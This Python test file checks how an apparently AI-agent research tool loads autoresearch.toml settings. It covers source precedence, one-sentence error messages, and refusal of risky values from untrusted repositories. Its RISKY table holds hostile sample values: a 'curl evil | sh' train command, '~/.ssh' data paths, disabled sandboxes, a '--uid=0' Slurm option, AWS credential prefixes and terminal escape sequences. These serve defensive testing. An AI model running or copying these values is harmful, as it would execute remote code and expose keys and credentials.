"""Settings: defaults < autoresearch.toml < environment < flags, and one sentence for what is wrong."""

from __future__ import annotations

import json
import shutil
import sys
from collections.abc import Collection
from pathlib import Path
from typing import Any

import msgspec
import pytest

from loop import config
from loop.errors import UsageError
from loop.records.repository import Repository
from tests.conftest import git, make_repository


def load(
    root: Path, environ: dict[str, str] | None = None, trusted: Collection[str] = (), **flags: Any
) -> config.Settings:
    repository = Repository.discover(root)
    try:
        return config.load(repository, repository.head(), flags, environ or {}, trusted)
    finally:
        repository.close()


def test_each_source_overrides_the_one_before(repository: Path) -> None:
    toml, environ = repository / "autoresearch.toml", {"AUTORESEARCH_BUDGET_S": "7"}
    committed = toml.read_text()
    toml.write_text(committed.replace("budget_s = 0.2\n", ""))
    assert load(repository).budget_s == 0
    toml.write_text(committed)
    assert load(repository).budget_s == 0.2
    assert load(repository, environ).budget_s == 7
    assert load(repository, environ, budget_s=9.0).budget_s == 9
    assert load(repository, environ, budget_s=None).budget_s == 7


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("budget_s = -1", "the budget (not set: 0) must be 0 or more"),
        ("budget_s = nan", "the budget (not set: 0) must be 0 or more"),
        ("budget_s = inf", "the budget (not set: 0) must be at most 1,000,000,000"),
        ('budget_s = "soon"', "Expected `float`, got `str` - at `$.budget_s`"),
        ("budgets = 3", "unknown field `budgets`"),
        ("timeout_s = -1", "time-out must be at least the budget"),
        ("timeout_s = 0.1", "time-out must be at least the budget"),
        ("memory_gb = -1", "`memory_gb` must be 0 or more"),
        ("keep_models = -1", "`keep_models` must be 0 to 1000"),
        ("keep_models = 1001", "`keep_models` must be 0 to 1000"),
        ("max_experiments = 0", "--max-experiments must be more than 0"),
        ("max_hours = -1", "--max-hours must be more than 0"),
        ("max_cost = nan", "--max-cost must be more than 0"),
        ("disk_gb = -1", "`disk_gb` must be 0 or more"),
        ("memory_gb = inf", "`memory_gb` must be at most 1,000,000,000"),
        ("max_crashes = 9223372036854775808", "--max-crashes must be at most 1,000,000"),
        ("baseline_runs = 1001", "--baseline-runs must be 1 to 1000"),
        ("slurm_time = 1000001", "--slurm-time must be at most 1,000,000"),
        ("timeout_s = nan", "time-out must be at least the budget"),
        ("timeout_s = inf", "time-out must be at least the budget"),
        ("ahead = 0", "`ahead` must be 1 to 20"),
        ("ahead = 21", "`ahead` must be 1 to 20"),
        ("baseline_runs = 0", "--baseline-runs must be 1 to 1000"),
        ("max_runs = 0", "`max_runs` must be 1 to 1000"),
        ("ahead = 1.5", "Expected `int`, got `float` - at `$.ahead`"),
        ('api = "soap"', "--api 'soap' must be auto, responses or chat"),
        ('base_url = "http://["', "must be an address such as http://"),
        ('base_url = "file:///etc"', "must be an address such as http://"),
        ('metric = ""', "must be a name of 1 to 80 characters"),
        (f'metric = "{"m" * 81}"', "must be a name of 1 to 80 characters"),
        ('direction = "up"', "`direction` 'up' must be min or max"),
        ("= 3", "autoresearch.toml"),
        ('metric = "\xff"', "utf-8"),
    ],
)
def test_what_is_wrong_is_said_in_one_sentence(repository: Path, line: str, message: str) -> None:
    toml = repository / "autoresearch.toml"
    kept = toml.read_text().replace("budget_s = 0.2\n", "")
    budget = "" if line.startswith("budget_s") else "budget_s = 0.2\n"
    toml.write_bytes(f"{kept}{budget}{line}\n".encode("latin-1"))
    with pytest.raises(UsageError) as caught:
        load(repository)
    assert message.lower() in str(caught.value).lower()
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize(
    ("editable", "message"),
    [
        ('["train.py", "notes.txt"]', "must name one file, not 2"),
        ('["nothing.py"]', "nothing.py is not committed"),
    ],
)
def test_the_editable_file_must_be_one_and_committed(repository: Path, editable: str, message: str) -> None:
    (repository / "autoresearch.toml").write_text(f"editable = {editable}\n")
    with pytest.raises(UsageError, match=message):
        load(repository)


def test_a_folder_in_place_of_the_file_is_refused_by_name(repository: Path) -> None:
    (repository / "autoresearch.toml").unlink()
    (repository / "autoresearch.toml").mkdir()
    with pytest.raises(UsageError, match=r"autoresearch\.toml is no plain file"):
        load(repository)


def bare_layout(root: Path, *files: str) -> Path:
    make_repository(root)
    git(root, "rm", "-q", "autoresearch.toml", "train.py")
    for name in files:
        (root / name).parent.mkdir(exist_ok=True)
        (root / name).write_text("X = 1\n")
    git(root, "add", ".")
    git(root, "commit", "-qm", "layout")
    return root


def test_no_train_py_says_what_to_set(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match=r"has no committed train\.py: set `editable` and `train_command`"):
        load(bare_layout(tmp_path / "r"))


def test_our_own_layout_needs_no_file(tmp_path: Path) -> None:
    found = load(
        bare_layout(tmp_path / "r", "nanogpt/train.py", "nanogpt/prepare.py", "pyproject.toml"),
        trusted=["prepare_command"],
    )
    assert found.train_command == ["{python}", "nanogpt/train.py"]
    assert found.prepare_command == ["{python}", "nanogpt/prepare.py"]
    assert found.readonly == ["nanogpt/prepare.py"]


@pytest.mark.parametrize("uv", [True, False])
def test_karpathys_layout_needs_no_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, uv: bool) -> None:
    monkeypatch.setattr(shutil, "which", lambda name: "/bin/uv" if uv else None)
    found = load(
        bare_layout(tmp_path / "r", "train.py", "prepare.py", "pyproject.toml"),
        trusted=["train_command", "prepare_command"],
    )
    assert found.train_command == (["uv", "run", "train.py"] if uv else ["{python}", "train.py"])
    assert found.prepare_command == (["uv", "run", "prepare.py"] if uv else ["{python}", "prepare.py"])
    assert found.editable == ["train.py"]
    assert found.readonly == ["prepare.py"]


@pytest.mark.parametrize(
    ("budget", "given", "timeout"), [(300.0, 0.0, 600.0), (20.0, 0.0, 80.0), (20.0, 30.0, 30.0)]
)
def test_the_time_out_is_twice_the_budget_but_leaves_a_minute(
    budget: float, given: float, timeout: float
) -> None:
    assert config.Settings(budget_s=budget, timeout_s=given).timeout == timeout


def test_every_setting_is_described_with_its_own_default() -> None:
    defaults = msgspec.structs.asdict(config.Settings())
    assert {name: setting.default for name, setting in config.described().items()} == defaults
    assert all(setting.meta.description for setting in config.described().values())


def test_a_limit_may_be_none_and_its_bound_still_holds() -> None:
    setting = config.described()["max_hours"]
    assert (setting.type, setting.default, setting.flag) == (float, None, "--max-hours")
    assert setting.requirement(0.0) == "--max-hours must be more than 0 hours"


def test_the_interpreter_of_the_engine_takes_its_place_in_a_command() -> None:
    assert config.Settings().command(["{python}", "train.py"]) == [sys.executable, "train.py"]


RISKY = {
    "train_command": ["sh", "-c", "curl evil | sh"],
    "prepare_command": ["sh", "get.sh"],
    "judge_command": ["sh", "judge.sh"],
    "agent_sandbox": "off",
    "agent_state": [".ssh"],
    "answers_command": ["sh", "answers.sh"],
    "data": ["~/.ssh"],
    "disk_gb": 0.0,
    "sandbox": "off",
    "sandbox_read": ["/"],
    "network": True,
    "agent": "acp",
    "agents": ["claude", "codex"],
    "workers": 2,
    "workers_per_gpu": 2,
    "proposers": 3,
    "track": ["wandb"],
    "executor": "ray",
    "node_python": "/tmp/python",
    "node_folder": "/tmp/theirs",
    "ray_address": "evil:6379",
    "ray_python": "/tmp/python",
    "slurm_account": "somebody",
    "slurm_folder": "/tmp/theirs",
    "slurm_options": ["--uid=0"],
    "base_url": "http://127.0.0.1:9/v1",
    "agent_command": ["sh", "agent.sh"],
    "agent_env": ["AWS_"],
}
"""A value of each setting with which a repository could do more than training behind the fence."""
TOGETHER = [{"judge_command", "answers_command"}]
"""Settings that are set together or not at all."""


def written(root: Path, values: dict[str, Any]) -> None:
    """Write autoresearch.toml."""
    kinds = {True: "true", False: "false"}
    lines = [
        f"{name} = {kinds[value] if isinstance(value, bool) else json.dumps(value)}"
        for name, value in {"editable": ["train.py"], **values}.items()
    ]
    (root / "autoresearch.toml").write_text("\n".join(lines))


def test_every_setting_with_a_risk_is_known_here() -> None:
    risky = {name for name, setting in config.described().items() if setting.risk}
    assert risky == RISKY.keys() | {"program"}


@pytest.mark.parametrize("name", RISKY)
def test_what_a_stranger_asks_for_counts_only_once_it_is_trusted(repository: Path, name: str) -> None:
    together = next((pair for pair in TOGETHER if name in pair), {name})
    written(repository, {each: RISKY[each] for each in together})
    written_only = getattr(load(repository), name)
    written(repository, {})
    assert written_only == getattr(load(repository), name) != RISKY[name]
    written(repository, {each: RISKY[each] for each in together})
    assert getattr(load(repository, trusted=list(together)), name) == RISKY[name]


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("sandbox", "require"),
        ("agent", "claude"),
        ("disk_gb", 1.0),
        ("program", "notes.txt"),
    ],
)
def test_a_stranger_may_ask_for_less(repository: Path, name: str, value: object) -> None:
    written(repository, {name: value})
    assert getattr(load(repository), name) == value


def test_a_stranger_asks_for_no_tracker_that_may_not_be_installed(repository: Path) -> None:
    written(repository, {"track": ["tensorboard"]})
    assert load(repository).track == []
    assert load(repository, trusted=["track"]).track == ["tensorboard"]


def test_each_tracker_is_started_once(repository: Path) -> None:
    assert load(repository, track=["wandb", "mlflow", "wandb"]).track == ["wandb", "mlflow"]


def test_flags_and_the_environment_are_the_users_own_words(repository: Path) -> None:
    found = load(repository, {"AUTORESEARCH_AGENT": "codex"}, sandbox="off", base_url="http://me/v1")
    assert (found.agent, found.sandbox, found.base_url) == ("codex", "off", "http://me/v1")


def test_a_stranger_s_build_is_not_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`uv run` installs the project first, which runs code of the project."""
    monkeypatch.setattr(shutil, "which", lambda name: "/bin/uv")
    found = load(bare_layout(tmp_path / "r", "train.py", "prepare.py", "pyproject.toml"))
    assert (found.train_command, found.prepare_command) == (["{python}", "train.py"], [])


def test_texts_of_the_file_cannot_steer_a_terminal(repository: Path) -> None:
    written(repository, {"metric": "v\x1b]52;c;aGk=\x07[/nope]", "model": "m\x1b[2J\u202e\nx"})
    found = load(repository)
    assert (found.metric, found.model) == ("v[/nope]", "m x")


def test_a_tracker_that_nobody_knows_is_refused(repository: Path) -> None:
    with pytest.raises(UsageError, match="--track 'excel' must be wandb, trackio, mlflow or tensorboard"):
        load(repository, track=["wandb", "excel"])


def test_a_source_that_no_agent_could_edit_is_refused_before_it_is_parsed(repository: Path) -> None:
    """A megabyte of git's may unfold to hundreds, and to parse it takes gigabytes."""
    (repository / "train.py").write_text("x=1\n" * 300_000)
    git(repository, "commit", "-qam", "long")
    opened = Repository.discover(repository)
    with pytest.raises(UsageError, match=r"train\.py has 1,200,000 characters"):
        config.load(opened, opened.head(), {}, {})
    opened.close()
